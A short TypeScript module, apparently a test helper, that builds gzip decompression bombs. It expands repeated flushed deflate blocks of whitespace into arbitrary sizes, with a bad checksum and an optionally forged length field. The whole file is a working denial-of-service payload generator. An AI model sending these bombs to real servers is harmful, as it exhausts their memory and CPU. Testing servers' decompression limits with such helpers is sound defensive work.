import { constants, deflateRawSync } from "node:zlib";

const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
const lastBlock = Buffer.from([3, 0]);
const blockBytes = 64 * 1024 ** 2;

/**
 * A gzip stream of so many bytes of white space, a thousandth as long: one block, flushed, again and again. The checksum
 * is wrong: a server that gets as far as to check it has already lost.
 *
 * @param saysBytes the length that its end gives, of which there is room for the lowest 32 bits. Default: the truth
 */
export function gzipBomb(bytes: number, saysBytes = bytes): Buffer {
  const block = deflateRawSync(Buffer.alloc(blockBytes, 0x20), { finishFlush: constants.Z_FULL_FLUSH });
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(saysBytes % 2 ** 32, 4);
  return Buffer.concat([header, ...Array<Buffer>(Math.ceil(bytes / blockBytes)).fill(block), lastBlock, trailer]);
}
